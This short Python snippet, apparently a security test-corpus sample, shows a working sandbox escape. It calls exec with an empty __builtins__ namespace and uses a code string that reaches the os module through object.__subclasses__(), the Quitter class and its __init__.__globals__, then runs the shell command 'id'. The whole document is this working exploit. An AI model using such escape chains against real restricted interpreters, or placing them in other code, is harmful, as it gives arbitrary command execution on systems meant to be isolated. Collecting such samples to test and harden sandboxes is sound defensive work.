# corpus: exec in a namespace with empty __builtins__ escaped via __subclasses__ and Quitter.__init__.__globals__
ns = {"__builtins__": {}}
code = ("[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'Quitter'][0]"
        ".__init__.__globals__['sys'].modules['os'].system('id')")
exec(code, ns)
